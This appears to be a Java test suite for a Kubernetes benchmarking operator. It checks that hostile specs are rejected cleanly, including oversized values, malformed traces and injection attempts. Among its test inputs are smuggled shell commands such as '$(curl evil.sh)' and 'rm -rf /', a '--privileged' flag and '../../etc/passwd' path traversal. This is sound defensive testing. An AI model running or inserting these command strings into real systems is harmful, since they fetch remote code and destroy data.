package dev.mlbench.controller.validation;

import static dev.mlbench.controller.validation.SpecValidationTest.cost;
import static dev.mlbench.controller.validation.SpecValidationTest.load;
import static dev.mlbench.controller.validation.SpecValidationTest.model;
import static dev.mlbench.controller.validation.SpecValidationTest.quickstart;
import static dev.mlbench.controller.validation.SpecValidationTest.scenario;
import static dev.mlbench.controller.validation.SpecValidationTest.spec;
import static dev.mlbench.controller.validation.SpecValidationTest.target;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

import jakarta.inject.Inject;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.mlbench.api.v1alpha1.MLBenchmark;
import dev.mlbench.api.v1alpha1.Phase;
import dev.mlbench.controller.catalog.InstanceTypeCatalog;
import dev.mlbench.controller.status.Conditions;
import dev.mlbench.controller.testing.OperatorHarness;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.javaoperatorsdk.operator.Operator;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.kubernetes.client.WithKubernetesTestServer;

/**
 * Hostile specs applied to the running operator: huge and negative values, far too many models, injection
 * attempts, unicode, and trace ConfigMaps that are missing or hold garbage. Each ends in one SpecValid=False
 * condition naming the problem, phase Failed, and nothing deployed.
 */
@QuarkusTest
@WithKubernetesTestServer(crud = true, setup = dev.mlbench.controller.testing.RecordApiRequests.class)
class HostileSpecTest {

  static final String NAMESPACE = "hostile";

  @Inject
  KubernetesClient client;
  @Inject
  Operator operator;

  /** A hostile spec: how to break the quickstart, the trace its first scenario replays (if any), what the operator says. */
  record Case(String name, Consumer<ObjectNode> breakIt, String trace, String says) {
    static Case spec(String name, Consumer<ObjectNode> breakIt, String says) {
      return new Case(name, breakIt, null, says);
    }

    static Case trace(String name, String trace, String says) {
      return new Case(name, SpecValidationTest::nothing, trace, says);
    }
  }

  static final String MISSING = "\u0000missing";

  static List<Case> catalogue() {
    List<Case> cases = new ArrayList<>(List.of(
        // huge values
        Case.spec("rate of 1e12 requests per second", b -> scenario(b, 0).put("rate", 1e12),
            "spec.load.scenarios[0].rate: (1.0E12) must be between 0.001 and 100000"),
        Case.spec("a billion container replicas", b -> target(b, "container").put("replicas", 1_000_000_000),
            "spec.targets.container.replicas: (1000000000) must be between 1 and 100"),
        Case.spec("a scenario lasting ten years", b -> scenario(b, 0).put("duration", "87600h"),
            "spec.load.scenarios[0].duration: 87600h must be between"),
        Case.spec("a duration too long for any clock", b -> scenario(b, 0).put("duration", "9".repeat(40) + "h"),
            "is too long a duration"),
        Case.spec("a warm-up of a year", b -> load(b).put("warmup", "8760h"), "spec.load.warmup: 8760h must be between"),
        Case.spec("a ready timeout of a decade", b -> object(spec(b), "targets").put("readyTimeout", "87600h"),
            "spec.targets.readyTimeout: 87600h must be between"),
        Case.spec("a million cold-start samples", b -> load(b).putObject("coldStart").put("samples", 1_000_000),
            "spec.load.coldStart.samples: (1000000) must be between 0 and 50"),
        Case.spec("a concurrency level of a hundred million", b -> ((ArrayNode) scenario(b, 1).get("levels")).add(100_000_000),
            "each concurrency level must be between 1 and 10000"),
        Case.spec("maxScale of two billion", b -> target(b, "serverless").put("maxScale", 2_000_000_000),
            "spec.targets.serverless.maxScale: (2000000000) must be between 1 and 1000"),
        Case.spec("a billion autoscaled replicas",
            b -> target(b, "container").putObject("autoscale").put("minReplicas", 1).put("maxReplicas", 1_000_000_000),
            "maxReplicas: (1000000000) must be between 1 and 100"),
        Case.spec("a million CPUs", b -> ((ObjectNode) model(b, 0).get("resources")).put("cpu", "1000000"),
            "1000000 is more than the 64 one pod may ask for"),
        Case.spec("petabytes of memory", b -> ((ObjectNode) model(b, 0).get("resources")).put("memory", "999999Ti"),
            "999999Ti is more than the 256Gi one pod may ask for"),
        Case.spec("1000 models", b -> {
          ArrayNode models = spec(b).putArray("models");
          for (int i = 0; i < 1000; i++) {
            models.addObject().put("name", "m" + i).put("workload", "sentiment");
          }
        }, "spec.models: has 1000 models; at most 20 are allowed"),
        Case.spec("1000 scenarios", b -> {
          ArrayNode scenarios = load(b).putArray("scenarios");
          for (int i = 0; i < 1000; i++) {
            scenarios.addObject().put("name", "s" + i).put("pattern", "constant").put("rate", 1).put("duration", "1s");
          }
        }, "spec.load.scenarios: has 1000 scenarios; at most 20 are allowed"),
        Case.spec("10000 environment variables", b -> {
          ObjectNode env = model(b, 0).putObject("env");
          for (int i = 0; i < 10_000; i++) {
            env.put("V" + i, "x");
          }
        }, "spec.models[0].env: has 10000 variables; at most 32 are allowed"),
        Case.spec("a 1 MB inference request", b -> model(b, 0).putObject("request").putArray("inputs").addObject()
            .put("name", "x").put("data", "a".repeat(1_000_000)), "bytes; at most 262144 are allowed"),
        Case.spec("a requests-per-day figure beyond 10^12", b -> object(cost(b), "traffic").put("requestsPerDay", 1e15),
            "spec.cost.traffic.requestsPerDay: must be between 0 and 10^12"),
        // negative values
        Case.spec("a negative duration per level", b -> scenario(b, 1).put("durationPerLevel", "-1s"),
            "'-1s' is not a duration"),
        Case.spec("a negative ready timeout", b -> object(spec(b), "targets").put("readyTimeout", "-10m"),
            "'-10m' is not a duration"),
        Case.spec("a negative SLO latency", b -> object(load(b), "slo").put("latency", "-500ms"), "'-500ms' is not a duration"),
        Case.spec("negative replicas", b -> target(b, "container").put("replicas", -3),
            "spec.targets.container.replicas: (-3) must be between 1 and 100"),
        Case.spec("negative cold-start samples", b -> load(b).putObject("coldStart").put("samples", -1),
            "spec.load.coldStart.samples: (-1) must be between 0 and 50"),
        Case.spec("a negative rate", b -> scenario(b, 0).put("rate", -50), "(-50.0) must be between 0.001 and 100000"),
        Case.spec("a negative hourly rate", b -> object(cost(b), "tco").put("hourlyRate", -100),
            "spec.cost.tco.hourlyRate: must be between 0 and 100000"),
        // injection attempts and unicode
        Case.spec("a newline in a model name", b -> model(b, 0).put("name", "a\nb"), "'a?b' must be a DNS-1035 label"),
        Case.spec("a path in a model name", b -> model(b, 0).put("name", "../../etc"), "'../../etc' must be a DNS-1035 label"),
        Case.spec("a unicode model name", b -> model(b, 0).put("name", "模型"), "'??' must be a DNS-1035 label"),
        Case.spec("a right-to-left override in a model name", b -> model(b, 0).put("name", "\u202Eevil"),
            "'?evil' must be a DNS-1035 label"),
        Case.spec("command substitution in an image", b -> model(b, 0).put("image", "$(curl evil.sh)"),
            "'$(curl evil.sh)' is not a container image reference"),
        Case.spec("a newline and a flag in an image", b -> model(b, 0).put("image", "nginx\n--privileged"),
            "'nginx?--privileged' is not a container image reference"),
        Case.spec("a 10,000-character image", b -> model(b, 0).put("image", "a".repeat(10_000)),
            "is not a container image reference"),
        Case.spec("shell metacharacters in an environment variable name", b -> model(b, 0).putObject("env").put("A;rm -rf /", "x"),
            "'A;rm -rf /' is not an environment variable name"),
        Case.spec("an environment variable name with '='", b -> model(b, 0).putObject("env").put("PATH=/tmp", "x"),
            "'PATH=/tmp' is not an environment variable name"),
        Case.spec("a pipe in a scenario name", b -> scenario(b, 0).put("name", "steady|reboot"),
            "'steady|reboot' must be a DNS-1035 label"),
        Case.spec("a unicode scenario name", b -> scenario(b, 0).put("name", "ステディ"), "'????' must be a DNS-1035 label"),
        Case.spec("an escape sequence in a duration", b -> scenario(b, 0).put("duration", "5s\u001b[2J"),
            "'5s?[2J' is not a duration"),
        Case.spec("shell in an instance type", b -> target(b, "vm").put("instanceType", "m5.large; rm -rf /"),
            "is not a known instance type"),
        Case.spec("a path in a trace ConfigMap name", b -> traceFrom(b, "../secrets", "trace.csv"),
            "configMapRef.name: must be the name of a ConfigMap"),
        Case.spec("a parent-directory trace key", b -> traceFrom(b, "trace", ".."),
            "configMapRef.key: must be a ConfigMap key"),
        Case.spec("a path as trace key", b -> traceFrom(b, "trace", "../../etc/passwd"),
            "configMapRef.key: must be a ConfigMap key"),
        // traces that cannot be replayed
        Case.trace("a missing trace ConfigMap", MISSING, "ConfigMap 'trace-missing' does not exist in namespace hostile"),
        Case.trace("a trace with a word among its counts", "30\n45\nlots\n", "line 3: 'lots' is not a whole number of requests"),
        Case.trace("a trace with a negative count", "30\n-5\n", "line 2: the count -5 is negative"),
        Case.trace("an empty trace", "", "holds no count"),
        Case.trace("a trace of comments only", "# nothing\n\n# here\n", "holds no count"),
        Case.trace("a trace with a count beyond any rate", "99999999999\n", "is more than 6000000 requests in a minute"),
        Case.trace("a trace longer than a day", "1\n".repeat(2000), "has more than 1440 minutes of counts"),
        Case.trace("a trace with control characters", "30\n\u0000\u0007\n", "line 2: '??' is not a whole number"),
        Case.trace("an Azure trace with unsorted minutes", "HashOwner,HashApp,HashFunction,Trigger,2,1,3\no,a,f,http,1,2,3\n",
            "minute column 1 is '2'"),
        Case.trace("an Azure trace without rows", "HashOwner,HashApp,HashFunction,Trigger,1,2,3\n", "has an Azure Functions header but no data row"),
        Case.trace("an Azure trace with a short row", "HashOwner,HashApp,HashFunction,Trigger,1,2,3\no,a,f,http,1\n",
            "line 2: has 5 columns, the header 7")));
    return cases;
  }

  static ObjectNode object(ObjectNode parent, String field) {
    return parent.get(field) instanceof ObjectNode child ? child : parent.putObject(field);
  }

  static void traceFrom(ObjectNode benchmark, String configMap, String key) {
    scenario(benchmark, 0).put("pattern", "trace").remove(List.of("rate", "duration"));
    scenario(benchmark, 0).putObject("configMapRef").put("name", configMap).put("key", key);
  }

  @Test
  void everyHostileSpecEndsInOneClearMessageWithNothingDeployed() throws Exception {
    OperatorHarness.start(operator, client, true);
    OperatorHarness.namespace(client, NAMESPACE);
    List<Case> cases = catalogue();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(30);
    for (int i = 0; i < cases.size(); i++) {
      Case c = cases.get(i);
      ObjectNode benchmark = quickstart();
      ((ObjectNode) benchmark.get("metadata")).put("name", "hostile-" + i).put("namespace", NAMESPACE);
      c.breakIt().accept(benchmark);
      if (c.trace() != null) {
        String configMap = c.trace() == MISSING ? "trace-missing" : "trace-" + i;
        traceFrom(benchmark, configMap, "trace.csv");
        if (c.trace() != MISSING) {
          client.configMaps().inNamespace(NAMESPACE).resource(new ConfigMapBuilder().withNewMetadata()
              .withName(configMap).endMetadata().addToData("trace.csv", c.trace()).build()).create();
        }
      }
      client.resource(SpecValidationTest.SERIALIZATION.unmarshal(benchmark.toString(), MLBenchmark.class)).create();
    }

    await().atMost(OperatorHarness.TIMEOUT).untilAsserted(() -> assertThat(benchmarks())
        .allSatisfy(b -> assertThat(b.getStatus()).as(b.getMetadata().getName()).isNotNull()
            .satisfies(s -> assertThat(s.phase).isEqualTo(Phase.Failed))));
    // a last look after the operator had time to do anything more it would do
    Thread.sleep(1000);

    SoftAssertions softly = new SoftAssertions();
    for (int i = 0; i < cases.size(); i++) {
      Case c = cases.get(i);
      MLBenchmark b = client.resources(MLBenchmark.class).inNamespace(NAMESPACE).withName("hostile-" + i).get();
      var specValid = b.getStatus().conditions.stream().filter(cond -> Conditions.SPEC_VALID.equals(cond.type)).toList();
      softly.assertThat(specValid).as(c.name()).singleElement().satisfies(cond -> {
        assertThat(cond.status).isEqualTo("False");
        assertThat(cond.message).contains(c.says()).doesNotContainPattern("\\p{Cntrl}").hasSizeLessThan(2_000);
      });
      softly.assertThat(b.getStatus().phase).as(c.name()).isEqualTo(Phase.Failed);
      softly.assertThat(b.getStatus().runId).as(c.name()).isNull();
    }
    softly.assertAll();

    assertThat(client.apps().deployments().inNamespace(NAMESPACE).list().getItems()).as("Deployments").isEmpty();
    assertThat(client.services().inNamespace(NAMESPACE).list().getItems()).as("Services, Knative ones included").isEmpty();
    assertThat(client.autoscaling().v2().horizontalPodAutoscalers().inNamespace(NAMESPACE).list().getItems()).isEmpty();
    assertThat(client.batch().v1().jobs().inNamespace(NAMESPACE).list().getItems()).as("load Jobs").isEmpty();
    assertThat(client.configMaps().inNamespace(NAMESPACE).list().getItems()).as("only the tests' trace ConfigMaps")
        .allSatisfy(c -> assertThat(c.getMetadata().getName()).startsWith("trace-"));
  }

  @Test
  void aThousandModelsAreRejectedFastWithOneMessage() throws Exception {
    ObjectNode benchmark = quickstart();
    cases("1000 models").breakIt().accept(benchmark);
    MLBenchmark parsed = SpecValidationTest.SERIALIZATION.unmarshal(benchmark.toString(), MLBenchmark.class);
    MLBenchmarkValidator validator = new MLBenchmarkValidator(InstanceTypeCatalog.defaultCatalog());
    long start = System.nanoTime();
    List<String> problems = validator.validate(parsed);
    long micros = (System.nanoTime() - start) / 1000;
    assertThat(problems).containsExactly("spec.models: has 1000 models; at most 20 are allowed");
    assertThat(micros).as("validation time in µs").isLessThan(Duration.ofMillis(200).toNanos() / 1000);
    // the API server refuses it first, by the CRD's own limit (evaluating the whole schema on 1000 models is slow here)
    var crd = SpecValidationTest.YAML.readTree(OperatorHarness.REPO.resolve("crds/mlbenchmarks.mlbench.dev-v1.yml").toFile());
    assertThat(crd.at("/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/models/maxItems").asInt())
        .isEqualTo(dev.mlbench.api.v1alpha1.Limits.MAX_MODELS);
  }

  @ParameterizedTest
  @ValueSource(strings = { "workload=quantum", "workload=", "pattern=zigzag", "provider=ibm", "isolation=none" })
  void unknownEnumValuesAreRefusedByTheCrdSchemaBeforeTheOperatorSeesThem(String change) throws Exception {
    // the operator's POJOs cannot even hold these; the API server refuses them by the CRD's enums
    ObjectNode benchmark = quickstart();
    String field = change.substring(0, change.indexOf('='));
    String value = change.substring(change.indexOf('=') + 1);
    switch (field) {
      case "workload" -> model(benchmark, 0).put("workload", value);
      case "pattern" -> scenario(benchmark, 0).put("pattern", value);
      case "provider" -> cost(benchmark).put("provider", value);
      default -> load(benchmark).put("isolation", value);
    }
    assertThat(SpecValidationTest.CRD.validate(benchmark)).as(change).isNotEmpty();
  }

  private static Case cases(String name) {
    return catalogue().stream().filter(c -> c.name().equals(name)).findFirst().orElseThrow();
  }

  private List<MLBenchmark> benchmarks() {
    return client.resources(MLBenchmark.class).inNamespace(NAMESPACE).list().getItems();
  }
}
